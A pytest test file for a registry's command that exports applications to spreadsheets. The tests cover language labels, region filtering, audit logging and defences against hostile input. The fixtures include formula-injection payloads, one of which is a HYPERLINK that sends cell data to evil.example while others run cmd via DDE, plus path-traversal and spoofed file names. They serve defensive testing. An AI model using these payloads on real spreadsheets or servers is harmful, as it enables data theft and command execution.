"""`flask registry export`: the commissions' spreadsheets, on SQLite and on PostgreSQL.

What a commission member would notice: the table opens with Kazakh letters intact,
says "Алматы қаласы" and "Демеушілер" rather than KZ-75 and `sponsors`, writes dates as
people do in the chosen language, lists one region's applications only, never turns an
applicant's text into a formula, keeps every supporting document inside its own
folder whatever its name, never overwrites an earlier export, and every export is in
the registry's audit log.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import subprocess
import uuid
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from kiosk import payload
from kiosk.db import connect
from kiosk.outbox.forwarder import Forwarder
from kiosk.registry import audit_log, database, export, files_store, store
from kiosk.registry.cli import registry_cli
from kiosk.registry.export_cli import os_user
from tests.disk import small_disk
from tests.forwarding import (
    make_node,
    make_registry,
    queue_applications,
    registry_env,
    served,
    valid_application,
)

PDF = "application/pdf"
JPEG = "image/jpeg"
MIXED_RU = "Смешанное финансирование: несколько источников"

# What the applicant of `_application` saw, in each language.
SEEN = {
    "kk": {
        "region": "Алматы қаласы",
        "type": "Жеке тұлға (өз атынан өтінім беретін адам)",
        "funding": "Демеушілер",
        "group": "Мүгедектігі бар адамдар",
        "submitted": "2027 жылғы 1 наурыз, 14:15",
        "started": "2021 жылғы наурыз",
        "header": "Орталық тізілімдегі нөмірі",
        "region_header": "Өңір",
    },
    "ru": {
        "region": "город Алматы",
        "type": "Физическое лицо (подаёт заявку от своего имени)",
        "funding": "Спонсоры",
        "group": "Лица с инвалидностью",
        "submitted": "1 марта 2027 года, 14:15",
        "started": "март 2021 года",
        "header": "Номер в центральном реестре",
        "region_header": "Регион",
    },
    "en": {
        "region": "Almaty",
        "type": "Individual (a person applying on their own)",
        "funding": "Sponsors",
        "group": "Persons with disabilities",
        "submitted": "1 March 2027, 14:15",
        "started": "March 2021",
        "header": "Central registry number",
        "region_header": "Region",
    },
}


@pytest.fixture
def registry(tmp_path, registry_backend):
    return make_registry(tmp_path / "registry", **registry_backend)


def _application(region: str = "KZ-75", **project) -> dict:
    given = valid_application(str(uuid.uuid4()), name="Әлия Нұрланқызы")
    given["region"] = region
    given["project"].update(project)
    return given


def _put(registry, given: dict, node_id: str = "node-a", files: dict | None = None) -> None:
    """Store one application as intake does after opening it; `files`: name -> bytes."""
    if files:
        given["schema"] = payload.SCHEMA_2
        given["attachments"] = [
            {
                "name": name,
                "media_type": media_type,
                "size": len(data),
                "sha256": hashlib.sha256(data).hexdigest(),
            }
            for name, (media_type, data) in files.items()
        ]
    assert payload.problems(given) == []
    with database.connected(registry.config) as db:
        store.record(db, node_id, given["submission_id"], payload.encode(given).encode(), "api")


def _keep(registry, given: dict, data: bytes, node_id: str = "node-a") -> None:
    with database.connected(registry.config) as db:
        digest = hashlib.sha256(data).hexdigest()
        files_store.keep(db, node_id, given["submission_id"], digest, data)


def _run(registry, *args: str):
    return CliRunner().invoke(registry_cli, ["export", *args], env=registry_env(registry))


def _exported(folder: Path, fmt: str) -> Path:
    [path] = sorted(folder.glob(f"*.{fmt}"))
    return path


def _xlsx_rows(path: Path) -> list[dict]:
    sheet = openpyxl.load_workbook(path).active
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def _csv_rows(path: Path) -> list[dict]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the file as UTF-8
    return list(csv.DictReader(io.StringIO(raw[3:].decode("utf-8")), delimiter=";"))


def _audit(registry) -> list[dict]:
    with database.connected(registry.config) as db:
        return audit_log.entries(db)


# Through the real path: a node sends, the registry takes, the commission exports ----------


def test_applications_sent_by_a_node_come_out_as_their_applicant_saw_them(tmp_path, registry):
    with served(registry) as url:
        node = make_node(tmp_path / "node", registry, url)
        queue_applications(node, 2)
        forwarder = Forwarder(node)
        node_db = connect(node.config["DATABASE"])
        try:
            for _ in range(2):
                assert forwarder.step(node_db).outcome.name == "DELIVERED"
        finally:
            node_db.close()
    result = _run(registry, "--region", "KZ-75", "--lang", "kk", str(tmp_path / "out"))
    assert result.exit_code == 0, result.output
    rows = _xlsx_rows(_exported(tmp_path / "out", "xlsx"))
    assert len(rows) == 2
    row = rows[0]
    assert row["Өңір"] == "Алматы қаласы"
    assert row["Өтініш берушінің түрі"] == "Үкіметтік емес ұйым (ҮЕҰ)"
    assert row["Ұйымның толық атауы"] == "«Қамқор» қоғамдық қоры"
    assert row["Жоба көмектесетін топтар"] == (
        "Мүгедектігі бар адамдар; Халықтың басқа да әлеуметтік осал топтары: Саңыраулар"
    )
    assert row["Жобаның басталған уақыты"] == "2021 жылғы наурыз"
    assert row["Қаржыландыру көзі"] == "Демеушілер"
    assert row["Телефон нөмірі"] == "+7 701 234 56 78"
    assert row["Жобаның атауы"] == "Онлайн сурдоаударма"
    assert row["Орталық тізілімдегі нөмірі"] == "R00000001"


# Labels, dates and encodings in each language -------------------------------------------


@pytest.mark.parametrize("lang", ["kk", "ru", "en"])
def test_xlsx_has_headers_labels_and_dates_in_the_chosen_language(tmp_path, registry, lang):
    _put(registry, _application())
    result = _run(registry, "--region", "KZ-75", "--format", "xlsx", "--lang", lang, str(tmp_path))
    assert result.exit_code == 0, result.output
    path = _exported(tmp_path, "xlsx")
    assert path.name == f"{export.stem_of('KZ-75', lang)}.xlsx"
    [row] = _xlsx_rows(path)
    seen = SEEN[lang]
    assert seen["header"] in row and row[seen["header"]] == "R00000001"
    values = set(row.values())
    for key in ("region", "type", "funding", "group", "submitted", "started"):
        assert seen[key] in values, (key, row)
    assert row[seen["region_header"]] == seen["region"]
    assert "Әлия Нұрланқызы" in values  # Kazakh letters as typed
    assert 1 in values and 2 in values  # people helped: numbers, not text


@pytest.mark.parametrize("lang", ["kk", "ru", "en"])
def test_csv_is_utf8_with_a_bom_and_reads_as_the_applicant_saw_it(tmp_path, registry, lang):
    _put(registry, _application())
    result = _run(registry, "--region", "KZ-75", "--format", "csv", "--lang", lang, str(tmp_path))
    assert result.exit_code == 0, result.output
    path = _exported(tmp_path, "csv")
    assert path.name == f"{export.stem_of('KZ-75', lang)}.csv"
    [row] = _csv_rows(path)
    seen = SEEN[lang]
    assert row[seen["header"]] == "R00000001"
    assert row[seen["region_header"]] == seen["region"]
    for key in ("type", "funding", "group", "submitted", "started"):
        assert seen[key] in row.values(), (key, row)
    assert "Әлия Нұрланқызы" in row.values()


def test_csv_can_be_comma_separated(tmp_path, registry):
    _put(registry, _application())
    result = _run(registry, "--format", "csv", "--separator", ",", "--lang", "en", str(tmp_path))
    assert result.exit_code == 0, result.output
    text = _exported(tmp_path, "csv").read_bytes()[3:].decode()
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["Region"] == "Almaty"


def test_jsonl_keeps_codes_under_english_keys_and_labels_beside_them(tmp_path, registry):
    first, second = _application(), _application(funding_source="mixed")
    _put(registry, first)
    _put(registry, second)
    result = _run(registry, "--format", "jsonl", "--lang", "ru", str(tmp_path))
    assert result.exit_code == 0, result.output
    lines = _exported(tmp_path, "jsonl").read_text(encoding="utf-8").splitlines()
    records = [json.loads(line) for line in lines]
    assert [r["submission_id"] for r in records] == [
        first["submission_id"],
        second["submission_id"],
    ]
    record = records[0]
    assert record["region"] == "KZ-75" and record["region_label"] == "город Алматы"
    assert record["funding_source"] == "sponsors" and record["funding_source_label"] == "Спонсоры"
    assert records[1]["funding_source"] == "mixed"
    assert records[1]["funding_source_label"] == MIXED_RU
    assert record["submitted_at"] == "2027-03-01T09:15:02+00:00"
    assert record["submitted_at_label"] == "1 марта 2027 года, 14:15"
    assert record["started"] == "2021-03" and record["started_label"] == "март 2021 года"
    assert record["target_groups"] == ["disabilities"]
    assert record["people_helped_total"] == 2 and "people_helped_total_label" not in record
    assert record["full_name"] == "Әлия Нұрланқызы" and "full_name_label" not in record
    assert record["bin"] is None and record["documents"] == []


def test_an_assisted_application_says_who_helped_and_how_the_applicant_agreed(tmp_path, registry):
    given = _application()
    given["assisted"] = {"worker_id": 7, "centre": "Алмалы ауданы", "consent_method": "read_aloud"}
    _put(registry, given)
    assert _run(registry, "--lang", "en", str(tmp_path)).exit_code == 0
    [row] = _xlsx_rows(_exported(tmp_path, "xlsx"))
    assert row["Filled in with a social worker"] == "Yes"
    assert row["Social service centre"] == "Алмалы ауданы"
    assert row["How the applicant agreed"] == "I read the declaration aloud and they agreed"
    assert row["Social worker's account number on the node"] == 7


# Which applications ----------------------------------------------------------------------


def test_a_regional_export_holds_that_region_only_and_without_region_every_one(tmp_path, registry):
    almaty, astana = _application("KZ-75"), _application("KZ-71")
    _put(registry, almaty)
    _put(registry, astana)
    assert (
        _run(registry, "--region", "kz-75", "--format", "jsonl", str(tmp_path / "r")).exit_code == 0
    )
    lines = _exported(tmp_path / "r", "jsonl").read_text().splitlines()
    assert [json.loads(line)["submission_id"] for line in lines] == [almaty["submission_id"]]
    result = _run(registry, "--format", "jsonl", str(tmp_path / "all"))
    assert result.exit_code == 0, result.output
    path = _exported(tmp_path / "all", "jsonl")
    assert path.name.startswith("applications-all-")
    regions = [json.loads(line)["region"] for line in path.read_text().splitlines()]
    assert regions == ["KZ-75", "KZ-71"]


def test_a_region_with_no_applications_writes_nothing_says_so_and_is_audited(tmp_path, registry):
    _put(registry, _application("KZ-75"))
    out = tmp_path / "out"
    result = _run(registry, "--region", "KZ-71", str(out))
    assert result.exit_code == 0, result.output
    assert "No applications for KZ-71: nothing written." in result.output
    assert not out.exists()  # not even the folder, and no empty file
    [entry] = _audit(registry)
    assert entry["event"] == "export"
    assert entry["detail"]["region"] == "KZ-71" and entry["detail"]["applications"] == 0
    assert entry["detail"]["path"] is None


# Formula injection -----------------------------------------------------------------------

HOSTILE_TEXTS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "settlement": "+cmd|' /C calc'!A0",
    "problem": "-2+3+cmd|' /C calc'!A0",
    "activities": "@SUM(1+1)*cmd|' /C calc'!A0",
    "results": "\t=1+1",
}


def test_no_applicant_text_becomes_a_formula_in_xlsx(tmp_path, registry):
    _put(registry, _application(**HOSTILE_TEXTS))
    assert _run(registry, "--lang", "en", str(tmp_path)).exit_code == 0
    sheet = openpyxl.load_workbook(_exported(tmp_path, "xlsx")).active
    cells = {cell.value: cell for cell in sheet[2]}
    for text in HOSTILE_TEXTS.values():
        cell = cells[text]  # the text as written, not a formula's result
        assert cell.data_type == "s", (text, cell.data_type)
        assert cell.quotePrefix, text  # Excel keeps it text when the cell is edited
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_no_applicant_text_becomes_a_formula_in_csv(tmp_path, registry):
    _put(registry, _application(**HOSTILE_TEXTS))
    assert _run(registry, "--format", "csv", "--lang", "en", str(tmp_path)).exit_code == 0
    [row] = _csv_rows(_exported(tmp_path, "csv"))
    for text in HOSTILE_TEXTS.values():
        assert f"'{text}" in row.values(), text
    assert not any(value.startswith(export.FORMULA_START) for value in row.values())
    assert row["Phone number"] == "'+7 701 234 56 78"


def test_jsonl_keeps_the_texts_as_they_are(tmp_path, registry):
    _put(registry, _application(**HOSTILE_TEXTS))
    assert _run(registry, "--format", "jsonl", str(tmp_path)).exit_code == 0
    [record] = [json.loads(line) for line in _exported(tmp_path, "jsonl").read_text().splitlines()]
    assert record["project_title"] == HOSTILE_TEXTS["title"]


# Supporting documents -------------------------------------------------------------------

HOSTILE_NAMES = {
    "../../../../etc/cron.d/evil.pdf": b"%PDF-1 one",
    "..\\..\\Windows\\win.ini.pdf": b"%PDF-1 two",
    "CON.pdf": b"%PDF-1 three",
    "report.pdf": b"%PDF-1 four",
    "/report.PDF": b"%PDF-1 five",  # the same name as the one before, on Windows and macOS
}


def test_documents_are_written_inside_their_folder_whatever_their_names(tmp_path, registry):
    given = _application()
    files = {name: (PDF, data) for name, data in HOSTILE_NAMES.items()}
    _put(registry, given, files=files)
    for data in HOSTILE_NAMES.values():
        _keep(registry, given, data)
    out = tmp_path / "out"
    result = _run(registry, "--lang", "en", str(out))
    assert result.exit_code == 0, result.output
    assert "Wrote 5 supporting documents" in result.output
    written = [path for path in out.rglob("*") if path.is_file() and path.suffix == ".pdf"]
    folder = out / f"{export.stem_of(None, 'en')}-documents" / f"R00000001_{given['reference']}"
    assert {path.parent for path in written} == {folder}
    assert sorted(path.read_bytes() for path in written) == sorted(HOSTILE_NAMES.values())
    names = sorted(path.name for path in written)
    assert len({name.casefold() for name in names}) == 5
    assert "_CON.pdf" in names and "evil.pdf" in names and "win.ini.pdf" in names
    assert {"report.pdf", "report (2).pdf"} <= {name.casefold() for name in names}
    assert not list(tmp_path.glob("**/etc/cron.d/*"))
    [row] = _xlsx_rows(_exported(out, "xlsx"))
    listed = row["Supporting documents"].split("\n")
    assert len(listed) == 5
    assert all((out / path).is_file() for path in listed)  # the table names where each went


def test_a_documents_name_ends_in_what_it_is_and_loses_odd_characters(tmp_path, registry):
    given = _application()
    tricky = {
        "photo.heic": (JPEG, b"\xff\xd8 jpeg"),  # a HEIC photo the node made a JPEG
        "invoice\u202efdp.exe": (PDF, b"%PDF-1 rlo"),  # right-to-left override: "invoiceexe.pdf"
        "   ...": (PDF, b"%PDF-1 dots"),
        "a\x00b\x07c.pdf": (PDF, b"%PDF-1 controls"),
    }
    _put(registry, given, files=tricky)
    for _media, data in tricky.values():
        _keep(registry, given, data)
    assert _run(registry, str(tmp_path)).exit_code == 0
    names = sorted(path.name for path in tmp_path.rglob("*") if path.parent.name.startswith("R0"))
    assert "photo.heic.jpg" in names
    assert all(name.endswith((".pdf", ".jpg")) for name in names), names
    assert not any(char in name for name in names for char in "\u202e\x00\x07"), names
    assert not any(name.startswith(".") for name in names), names


def test_a_document_the_registry_lacks_is_listed_as_not_received(tmp_path, registry):
    given = _application()
    _put(registry, given, files={"plan.pdf": (PDF, b"%PDF-1 here"), "budget.pdf": (PDF, b"gone")})
    _keep(registry, given, b"%PDF-1 here")
    result = _run(registry, "--lang", "ru", str(tmp_path))
    assert result.exit_code == 0, result.output
    assert "1 supporting document not at the registry yet" in result.output
    [row] = _xlsx_rows(_exported(tmp_path, "xlsx"))
    listed = row["Дополнительные документы"].split("\n")
    assert listed[1] == "budget.pdf (в центральный реестр не поступил)"
    assert (tmp_path / listed[0]).read_bytes() == b"%PDF-1 here"


def test_an_export_without_documents_makes_no_documents_folder(tmp_path, registry):
    _put(registry, _application())
    assert _run(registry, str(tmp_path / "out")).exit_code == 0
    assert [path.name for path in (tmp_path / "out").iterdir()] == [
        f"{export.stem_of(None, 'kk')}.xlsx"
    ]


# Never overwritten -----------------------------------------------------------------------


def test_a_second_export_the_same_day_gets_a_new_name_and_the_first_stays(tmp_path, registry):
    given = _application()
    _put(registry, given, files={"plan.pdf": (PDF, b"%PDF-1 plan")})
    _keep(registry, given, b"%PDF-1 plan")
    assert _run(registry, "--format", "csv", str(tmp_path)).exit_code == 0
    first = tmp_path / f"{export.stem_of(None, 'kk')}.csv"
    before = first.read_bytes()
    _put(registry, _application())
    result = _run(registry, "--format", "csv", str(tmp_path))
    assert result.exit_code == 0, result.output
    second = tmp_path / f"{export.stem_of(None, 'kk')}-2.csv"
    assert first.read_bytes() == before
    assert len(_csv_rows(second)) == 2 and len(_csv_rows(first)) == 1
    assert (tmp_path / f"{export.stem_of(None, 'kk')}-2-documents").is_dir()
    assert [entry["detail"]["path"] for entry in _audit(registry)] == [
        str(first.resolve()),
        str(second.resolve()),
    ]


# Bad input and faults ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["--region", "KZ-99"], "'KZ-99' is not a region code"),
        (["--region", "Almaty"], "'Almaty' is not a region code"),
        (["--format", "xls"], "'xls' is not one of 'xlsx', 'csv', 'jsonl'"),
        (["--lang", "de"], "'de' is not one of 'kk', 'ru', 'en'"),
    ],
)
def test_bad_input_is_refused_before_anything_is_read(tmp_path, registry, args, said):
    _put(registry, _application())
    result = _run(registry, *args, str(tmp_path / "out"))
    assert result.exit_code == 2
    assert said in result.output
    assert not (tmp_path / "out").exists()
    assert _audit(registry) == []


def test_a_folder_that_cannot_be_written_is_said_and_nothing_is_audited(tmp_path, registry):
    _put(registry, _application())
    mount = tmp_path / "readonly"
    mount.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=1m", "tmpfs", str(mount)], check=True)
    try:
        result = _run(registry, str(mount / "exports"))
        assert result.exit_code == 1
        assert f"cannot write to {mount / 'exports'}: Read-only file system" in result.output
        result = _run(registry, str(mount))
        assert result.exit_code == 1 and "Read-only file system" in result.output
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=True)
    assert _audit(registry) == []


def test_dir_that_is_a_file_is_refused(tmp_path, registry):
    _put(registry, _application())
    (tmp_path / "taken").write_text("x")
    result = _run(registry, str(tmp_path / "taken"))
    assert result.exit_code == 2 and "is a file" in result.output
    result = _run(registry, str(tmp_path / "taken" / "below"))
    assert result.exit_code == 1 and "cannot write to" in result.output
    assert _audit(registry) == []


def test_a_full_disk_leaves_no_half_export_behind(tmp_path, registry):
    given = _application()
    big = b"%PDF-1 " + bytes(range(256)) * 8192  # 2 MB, on a 1 MB disk
    _put(registry, given, files={"small.pdf": (PDF, b"%PDF-1 s"), "big.pdf": (PDF, big)})
    _keep(registry, given, b"%PDF-1 s")
    _keep(registry, given, big)
    with small_disk(tmp_path / "stick", size="1m") as disk:
        result = _run(registry, str(disk.mount))
        assert result.exit_code == 1
        assert "cannot write the export: No space left on device" in result.output
        assert list(disk.mount.iterdir()) == []
    assert _audit(registry) == []


def test_payloads_that_do_not_read_are_skipped_and_counted(tmp_path, registry):
    good = _application()
    _put(registry, good)
    broken_applicant = _application()
    del broken_applicant["applicant"]
    broken_attachments = _application()
    broken_attachments["attachments"] = [{"name": "x.pdf"}]
    with database.connected(registry.config) as db:
        for number, text in enumerate(
            [
                "{not json",
                "[1, 2]",
                '{"region": 75}',
                json.dumps(broken_applicant),
                json.dumps(broken_attachments),
                '{"region": "KZ-75", "project": "a string"}',
            ]
        ):
            db.execute(
                "INSERT INTO applications"
                " (node_id, submission_id, payload_sha256, payload, received_at, via)"
                " VALUES (?, ?, ?, ?, ?, ?)",
                ["node-a", f"broken-{number}", "h", text, "2027-03-02T00:00:00+00:00", "api"],
            )
    result = CliRunner().invoke(
        registry_cli, ["export", "--region", "KZ-75", str(tmp_path)], env=registry_env(registry)
    )
    assert result.exit_code == 0, result.output
    assert "6 stored applications could not be read, left out" in result.output
    assert "R00000002" in result.output and "R00000007" in result.output
    assert "Wrote 1 application for KZ-75" in result.output
    [row] = _xlsx_rows(_exported(tmp_path, "xlsx"))
    assert row["Өтінімнің идентификаторы"] == good["submission_id"]
    [entry] = _audit(registry)
    assert entry["detail"]["applications"] == 1 and entry["detail"]["unreadable"] == 6


# The audit log -----------------------------------------------------------------------------


def test_every_export_is_audited_with_who_what_and_where(tmp_path, registry):
    _put(registry, _application())
    _put(registry, _application("KZ-71"))
    result = _run(
        registry,
        "--region",
        "KZ-75",
        "--format",
        "csv",
        "--lang",
        "ru",
        "--by",
        "Марат Б.",
        str(tmp_path),
    )
    assert result.exit_code == 0, result.output
    [entry] = _audit(registry)
    assert entry["event"] == "export" and entry["actor"] == os_user()
    assert entry["detail"] == {
        "region": "KZ-75",
        "applications": 1,
        "unreadable": 0,
        "documents": 0,
        "format": "csv",
        "language": "ru",
        "path": str(_exported(tmp_path, "csv").resolve()),
        "by": "Марат Б.",
    }
    listing = CliRunner().invoke(registry_cli, ["audit"], env=registry_env(registry))
    assert listing.exit_code == 0 and "Марат Б." in listing.output and "KZ-75" in listing.output


def test_an_export_whose_audit_row_cannot_be_written_is_taken_back(tmp_path, registry):
    given = _application()
    _put(registry, given, files={"plan.pdf": (PDF, b"%PDF-1 plan")})
    _keep(registry, given, b"%PDF-1 plan")
    with database.connected(registry.config) as db:
        db.execute("DROP TABLE registry_audit")  # the log is gone: no export may leave unlogged
    result = _run(registry, str(tmp_path / "out"))
    assert result.exit_code == 1
    assert "the audit log could not be written, so the export was removed" in result.output
    assert list((tmp_path / "out").iterdir()) == []
